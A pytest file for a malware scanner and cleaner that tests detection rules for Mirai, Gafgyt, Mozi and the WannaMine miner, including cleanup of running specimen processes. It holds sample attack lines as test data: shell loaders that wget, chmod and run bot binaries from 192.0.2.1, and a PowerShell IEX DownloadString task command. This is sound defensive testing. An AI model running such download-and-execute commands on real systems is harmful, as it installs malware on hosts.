"""Packs of Linux botnets, of the miner on Windows and of devices: near misses, variants, what runs without a file."""

import re
from collections.abc import Iterator
from datetime import UTC, datetime
from pathlib import Path

import pytest

from quetsach.core.memory_variant import memory_variant
from quetsach.core.pack import Action, ArtefactKind, Pack
from quetsach.core.rule_text import rules_of
from quetsach.endpoint.act.clean import clean
from quetsach.endpoint.artefact import Artefact, FileAnchor, Finding, LineAnchor, NameAnchor, ProcessAnchor
from quetsach.endpoint.engine.boreal import BorealEngine
from quetsach.endpoint.host.posix.linux import live_host, mounted_host
from quetsach.endpoint.plan.plan import make_plan
from quetsach.endpoint.report.guidance import render
from quetsach.endpoint.scanner.match import Observation, TraitMatcher
from quetsach.endpoint.scanner.scan import Scope, scan
from quetsach.endpoint.store.state import State
from quetsach.packs.load import load_pack
from quetsach.packs.specimen import load_specimen
from quetsach.packs.specimen.program import build_elf, build_pe

SHELF = Path(__file__).parents[3] / "packs"
MIRAI, MOZI, MINER = (load_pack(SHELF / family) for family in ("mirai-gafgyt", "mozi", "xmrig-miner"))
DEVICES = tuple(load_pack(SHELF / family) for family in ("android-hummer", "iot-devices", "qsnatch", "vpnfilter"))
NOW = datetime(2026, 11, 25, tzinfo=UTC)
TABLE = (b"listening tun0\0", b"/dev/misc/watchdog\0", b"TSource Engine Query\0", b"/bin/busybox kill -9 \0")
GAFGYT = b"/proc/net/route\0KILLATTK\0None Killed.\0Killed %d.\0JUNK Flooding %s:%d\0"
FOLDERS = "cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; "
SPOILED = b"UPX!" + b"\x0d\x17\0\0" + bytes(12)
FILE = FileAnchor(b"/f", 1, 1, 1, 1, 1, sha256="")


def _hidden(key: int, words: tuple[bytes, ...] = TABLE) -> bytes:
    return b"".join(bytes(byte ^ key for byte in word) for word in words)


def _rules(pack: Pack, content: bytes) -> list[str]:
    return sorted(hit.rule for hit in BorealEngine().compile({pack.family: pack.rules}).match(content))


def _fetches(*kinds: str) -> bytes:
    lines = (f"{FOLDERS}wget http://192.0.2.1/x.{kind}; chmod +x x.{kind}; ./x.{kind}" for kind in kinds)
    return "\n".join(("#!/bin/sh", *lines)).encode()


@pytest.mark.parametrize("key", [0x22, 0x54, 0x45, 0x01, 0xFF])
def test_mirai_is_known_whatever_byte_hides_its_words(key: int) -> None:
    known = ["mirai_program", "mirai_words_in_memory"]
    assert _rules(MIRAI, build_elf(_hidden(key), machine=40, bits=32)) == known


def test_words_of_mirai_are_known_in_memory_without_a_header() -> None:
    variant = memory_variant(rules_of(MIRAI.rules), frozenset({"mirai_words_in_memory"}))
    assert not variant.left_out
    matcher = BorealEngine().compile({MIRAI.family: variant.source})
    assert [hit.rule for hit in matcher.match(bytes(5000) + _hidden(0x22))] == ["mirai_words_in_memory"]
    assert not matcher.match(bytes(5000) + b"".join(TABLE))  # a text about Mirai in an editor


@pytest.mark.parametrize(
    ("executable", "deleted", "trait"),
    [
        ("/usr/sbin/dropbear", "yes", "packed-mirai-process"),
        ("/var/run/.x", "no", "packed-mirai-in-passing"),
        ("/tmp/.lsb/dvrHelper", "no", "packed-mirai-in-passing"),
        ("/usr/bin/python3.13", "no", None),
        ("/tmp/venv/lib/scanner/bin/scan", "no", None),
    ],
)
def test_another_scanner_with_the_words_in_memory_goes_on_running(
    executable: str, deleted: str, trait: str | None
) -> None:
    hits = BorealEngine().compile({MIRAI.family: MIRAI.rules}).match(build_elf(_hidden(0x22)))
    in_memory = tuple(hit for hit in hits if hit.rule == "mirai_words_in_memory")
    anchor = ProcessAnchor(1, 1, executable.encode(), deleted=deleted == "yes")
    fields = {"executable": executable, "deleted": deleted}
    seen = Observation(Artefact(ArtefactKind.PROCESS, anchor, fields), in_memory)
    assert in_memory
    assert set(_found(MIRAI, seen)) == {trait} - {None}


@pytest.mark.parametrize(
    ("content", "rules"),
    [
        (build_elf(b"".join(TABLE)), ["mirai_program"]),
        (build_elf(GAFGYT), ["gafgyt_program"]),
        (build_elf(b"/proc/net/route\0KILLATTK\0LOLNOGTFO\0HTTPFLOOD\0REPORT %s:%s:%s\0"), ["gafgyt_program"]),
        (_fetches("mips", "mpsl", "arm7", "x86_64"), ["bot_download_script"]),
    ],
)
def test_variants_of_mirai_and_gafgyt_are_known(content: bytes, rules: list[str]) -> None:
    assert _rules(MIRAI, content) == rules


@pytest.mark.parametrize(
    "content",
    [
        b"a text about " + b"".join(TABLE) + GAFGYT,
        build_elf(b"busybox: applet not found\0/dev/watchdog\0/bin/busybox kill -9\0/proc/net/route\0"),
        build_elf(b"TSource Engine Query\0listening tun0\0"),
        build_elf(_hidden(0x22, TABLE[:2])),
        build_elf(GAFGYT.replace(b"KILLATTK", b"KILLDRAW")),
        build_elf(GAFGYT.replace(b"None Killed.", b"").replace(b"Killed %d.", b"")),
        _fetches("mips", "mpsl", "arm7"),
        _fetches("mips", "mpsl", "arm7", "x86").replace(FOLDERS.encode(), b"cd /tmp; "),
        b"#!/bin/sh\nfor a in mips mipsel arm ppc x86_64; do wget https://example.test/t.$a; chmod +x t.$a; done\n",
    ],
)
def test_what_only_looks_like_mirai_or_gafgyt_is_left_alone(content: bytes) -> None:
    assert _rules(MIRAI, content) == []


@pytest.mark.parametrize(
    "content",
    [
        build_elf(b"/usr/networks\0[ss]\0[cpu]\0[atk]\0"),
        build_elf(b"iptables -I INPUT -p tcp --destination-port 7547 -j DROP\0[ss]\0[cpu]\0[atk]\0"),
        b"/usr/networks S95baby.sh ConnectionRequestPassword acsMozi notitms [ss] [cpu] [atk]",
        build_elf(b"UPX!\x0d\x17\0\0\0\0\0\0\x10\x20\x30\0\x10\x20\x30\0"),
        b"#!/bin/sh\ncat /etc/networks /usr/networks.list\n",
    ],
)
def test_what_only_looks_like_mozi_is_left_alone(content: bytes) -> None:
    assert _rules(MOZI, content) == []


def _file(path: str, content: bytes, pack: Pack) -> Observation:
    fields = {"path": path, "name": path.rpartition("/")[2]}
    hits = BorealEngine().compile({pack.family: pack.rules}).match(content)
    return Observation(Artefact(ArtefactKind.FILE, FILE, fields), hits)


def _found(pack: Pack, *seen: Observation) -> dict[str, Action]:
    return {finding.trait: finding.action for finding in TraitMatcher([pack], BorealEngine()).find(seen)}


def test_a_spoiled_packed_program_counts_only_where_mozi_lies() -> None:
    packed = build_elf(bytes(24) + SPOILED, machine=8, bits=32)
    assert _found(MOZI, _file("/usr/networks", packed, MOZI)) == {"packed-program": Action.QUARANTINE}
    assert _found(MOZI, _file("/opt/vendor/tool", packed, MOZI)) == {}


@pytest.mark.parametrize(
    ("path", "expected"),
    [
        ("/var/run/.x", {"packed-mirai-in-passing", "packed-program", "cron-entry"}),
        ("/usr/sbin/dropbear", set()),
        ("/tmp/venv/lib/scanner/bin/scan", set()),
    ],
)
def test_the_file_of_a_packed_mirai_goes_with_what_runs_from_it(path: str, expected: set[str]) -> None:
    hits = BorealEngine().compile({MIRAI.family: MIRAI.rules}).match(build_elf(_hidden(0x22)))
    in_memory = tuple(hit for hit in hits if hit.rule == "mirai_words_in_memory")
    named = (path.encode(),)
    process = Artefact(
        ArtefactKind.PROCESS,
        ProcessAnchor(1, 1, path.encode(), deleted=False),
        {"executable": path, "deleted": "no"},
        named,
    )
    cron = Artefact(ArtefactKind.CRON_ENTRY, LineAnchor(FILE, 1, path.encode()), {"command": path}, named)
    files = [
        Observation(Artefact(ArtefactKind.FILE, FileAnchor(one.encode(), 1, 1, 1, 1, 1, sha256=""), {"path": one}))
        for one in (path, f"{path}-beside")
    ]
    assert set(_found(MIRAI, Observation(process, in_memory), Observation(cron), *files)) == expected
    assert _found(MIRAI, Observation(process), Observation(cron), *files) == {}


def test_a_script_of_the_owner_with_a_line_of_mozi_is_reported_beside_mozi_alone() -> None:
    script = b"#!/bin/sh\n" + b"echo backup\n" * 100 + b"/usr/networks&\n"
    packed = build_elf(bytes(24) + SPOILED, machine=8, bits=32)
    alone, beside = _file("/root/backup.sh", script, MOZI), _file("/usr/networks", packed, MOZI)
    assert _found(MOZI, alone) == {}
    assert _found(MOZI, alone, beside)["script-of-others"] is Action.REPORT


def test_the_start_table_is_only_reported(tmp_path: Path) -> None:
    infected = tmp_path / "tmp/.b"
    infected.parent.mkdir()
    infected.write_bytes(build_elf(_hidden(0x22)))
    (tmp_path / "etc").mkdir()
    (tmp_path / "etc/inittab").write_text(
        "id:3:initdefault:\nx:2345:respawn:/tmp/.b\ny:2345:respawn:/sbin/getty tty1\n"
    )
    found = scan(mounted_host(tmp_path), (MIRAI,), scope=Scope.FULL, now=NOW).findings
    assert {finding.trait: finding.action for finding in found} == {
        "mirai-program": Action.QUARANTINE,
        "inittab-line": Action.REPORT,
    }


@pytest.fixture
def ours(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Path]:
    """A folder whose processes are the only ones that count: what else lies and runs on this machine does not."""
    monkeypatch.setattr("quetsach.endpoint.scanner.scan.drop_paths", lambda _host: iter(()))
    return (tmp_path / "machine").resolve()  # type: ignore[return-value]


def _running_below(folder: Path, pack: Pack) -> tuple[Finding, ...]:
    found = scan(live_host(), (pack,), scope=Scope.QUICK, now=NOW).findings
    return tuple(f for f in found if f.artefact.fields.get("executable", "").startswith(str(folder)))


@pytest.mark.parametrize("pack", [MIRAI, MOZI], ids=lambda pack: pack.family)
def test_what_runs_without_its_file_is_kept_and_ended(pack: Pack, ours: Path, tmp_path: Path) -> None:
    with load_specimen(SHELF / pack.family).processes(ours) as numbers:
        found = _running_below(ours, pack)
        assert {f.artefact.anchor.pid for f in found if isinstance(f.artefact.anchor, ProcessAnchor)} == set(numbers)
        assert {(f.artefact.fields["deleted"], f.action) for f in found} == {("yes", Action.KILL)}
        state = State.open(tmp_path / "state")
        plan = make_plan(found, live_host(), state.folder)
        with state.lock():
            result = clean(
                plan,
                live_host(),
                state,
                look_again=lambda: _running_below(ours, pack),
                packs=(pack.family,),
                now=NOW,
            )
        assert (result.remaining, result.dangling) == ((), ())
        assert len(list(state.session_folder(result.session).glob("*.sealed"))) == len(numbers)
        assert not any(Path(f"/proc/{pid}/exe").exists() for pid in numbers)


@pytest.mark.parametrize(
    "words",
    [
        "snmpstorsrv\0trustedhostex.exe\0APPDIAGNOSTICS\0",
        "rdpkax.xsl\0DllHostEx.exe\0NetworkDistribution\0",
        "MsraReportDataCache32.tlb\0tpmagentservice\0NetTraceDiagnostics.ini\0",
    ],
)
def test_versions_of_wannamine_are_known_in_any_case(words: str) -> None:
    assert _rules(MINER, build_pe(sections={".rdata": words.encode("utf-16-le")})) == ["wannamine_program"]
    assert _rules(MINER, build_pe(sections={".rdata": words.encode()})) == ["wannamine_program"]
    assert _rules(MINER, words.encode()) == []


def _seen(kind: ArtefactKind, **fields: str) -> Observation:
    anchor = LineAnchor(FILE, 1, b"x") if kind is ArtefactKind.CRON_ENTRY else NameAnchor(b"x")
    return Observation(Artefact(kind, anchor, fields))


SYSTEM32 = "C:\\Windows\\System32\\"
WORM = _file(
    "/Windows/System32/snmpstorsrv.dll",
    build_pe(sections={".r": b"snmpstorsrv TrustedHostex.exe AppDiagnostics"}),
    MINER,
)


@pytest.mark.parametrize(
    ("kind", "fields", "alone", "beside"),
    [
        ("service", {"name": "WMASSRV", "dll": f"{SYSTEM32}WmassRv.dll"}, "known-windows-service", None),
        ("service", {"name": "wmassrv", "dll": "C:\\Program Files\\Own\\own.dll"}, None, None),
        ("service", {"name": "networkupnphost", "dll": f"{SYSTEM32}NetworkUPnPHost.dll"}, None, "made-up-service"),
        ("service", {"name": "RemoteRPCHelper", "dll": f"{SYSTEM32}rpcss.dll"}, None, None),
        (
            "wmi-subscription",
            {"name": "SCM Event8 Log Consumer2", "command": "PowerShell -E x"},
            "wmi-subscription",
            None,
        ),
        ("wmi-subscription", {"name": "SCM Event Log Consumer", "command": ""}, None, None),
        ("wmi-subscription", {"name": "DSM Event Log Consumer", "command": "C:\\own\\backup.exe"}, None, None),
        (
            "registry-value",
            {"place": "defender-exclusions", "name": f"{SYSTEM32}PowerShell.exe"},
            None,
            "defender-exclusion",
        ),
        ("registry-value", {"place": "defender-exclusions", "name": "C:\\Program Files\\UniKey"}, None, None),
        (
            "scheduled-task",
            {"command": "powershell IEX(x).DownloadString('http://192.0.2.1:8000/in6.ps1')"},
            None,
            "task-download",
        ),
        ("scheduled-task", {"command": "powershell IEX(x).DownloadString('https://example.test/x.ps1')"}, None, None),
    ],
)
def test_names_of_wannamine(kind: str, fields: dict[str, str], alone: str | None, beside: str | None) -> None:
    seen = _seen(ArtefactKind(kind), **fields)
    assert set(_found(MINER, seen)) == {alone} - {None}
    assert set(_found(MINER, seen, WORM)) - {"wannamine-program"} == {alone or beside} - {None}


@pytest.mark.parametrize("pack", DEVICES, ids=lambda pack: pack.family)
def test_pages_about_devices_say_what_the_tool_cannot_do(pack: Pack) -> None:
    assert pack.traits == ()
    assert "Công cụ Quét Sạch" in pack.guidance.vi
    assert re.search(r"tool (cannot|does not) run on", pack.guidance.en)


@pytest.mark.parametrize("pack", [MIRAI, MOZI, MINER, *DEVICES], ids=lambda pack: pack.family)
@pytest.mark.parametrize("language", ["vi", "en"])
def test_steps_are_one_list_that_counts_on(pack: Pack, language: str) -> None:
    text = pack.guidance.in_language(language)
    section = next(part for part in text.split("\n## ")[1:] if re.match(r"Bây giờ|What to do now", part))
    numbers = [int(n) for n in re.findall(r"^(\d+)\. ", section, re.MULTILINE)]
    assert numbers == list(range(1, len(numbers) + 1))
    assert render(section).count("<ol>") == 1
